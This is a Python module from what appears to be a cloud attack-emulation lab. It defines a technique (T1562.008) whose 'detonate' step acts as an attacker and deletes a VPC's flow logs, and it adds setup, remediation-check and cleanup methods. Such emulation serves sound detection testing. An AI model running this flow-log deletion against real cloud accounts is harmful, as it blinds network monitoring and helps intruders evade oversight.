"""vpc-remove-flow-logs: delete a VPC's flow logs (T1562.008)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites, Technique
from lab.attacks.resources import delete_bucket, ensure_vpc, missing_ok, tag_specifications
from lab.attacks.s3_bucket import ensure_private_bucket
from lab.emulator.endpoints import Endpoints

CIDR = "10.77.0.0/16"


class VpcRemoveFlowLogs(Technique):
    folder = Path(__file__).parent

    def warm_up(self, endpoints: Endpoints) -> Prerequisites:
        bucket = ensure_private_bucket(endpoints, "target-flow-logs", self.id)
        vpc_id = ensure_vpc(endpoints.client("ec2", "harness"), self.id, CIDR)
        prerequisites = {"vpc_id": vpc_id, "bucket": bucket}
        self.revert(endpoints, prerequisites)
        return prerequisites

    def _flow_logs(self, endpoints: Endpoints, prerequisites: Prerequisites, actor: str) -> list:
        return endpoints.client("ec2", actor).describe_flow_logs(
            Filters=[{"Name": "resource-id", "Values": [prerequisites["vpc_id"]]}]
        )["FlowLogs"]

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        ec2 = endpoints.client("ec2", "attacker")
        ids = [
            f["FlowLogId"]
            for f in ec2.describe_flow_logs(
                Filters=[{"Name": "resource-id", "Values": [prerequisites["vpc_id"]]}]
            )["FlowLogs"]
        ]
        ec2.delete_flow_logs(FlowLogIds=ids)

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """The VPC has an active flow log again."""
        return any(
            f.get("FlowLogStatus", "ACTIVE") == "ACTIVE"
            for f in self._flow_logs(endpoints, prerequisites, "observer")
        )

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        if not self.is_remediated(endpoints, prerequisites):
            endpoints.client("ec2", "harness").create_flow_logs(
                ResourceIds=[prerequisites["vpc_id"]],
                ResourceType="VPC",
                TrafficType="ALL",
                LogDestinationType="s3",
                LogDestination=f"arn:aws:s3:::{prerequisites['bucket']}",
                TagSpecifications=tag_specifications("vpc-flow-log", self.id),
            )

    def cleanup(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        ec2 = endpoints.client("ec2", "harness")
        ids = [f["FlowLogId"] for f in self._flow_logs(endpoints, prerequisites, "harness")]
        if ids:
            ec2.delete_flow_logs(FlowLogIds=ids)
        with missing_ok("InvalidVpcID.NotFound"):
            ec2.delete_vpc(VpcId=prerequisites["vpc_id"])
        delete_bucket(endpoints.client("s3", "harness"), prerequisites["bucket"])


TECHNIQUE = VpcRemoveFlowLogs
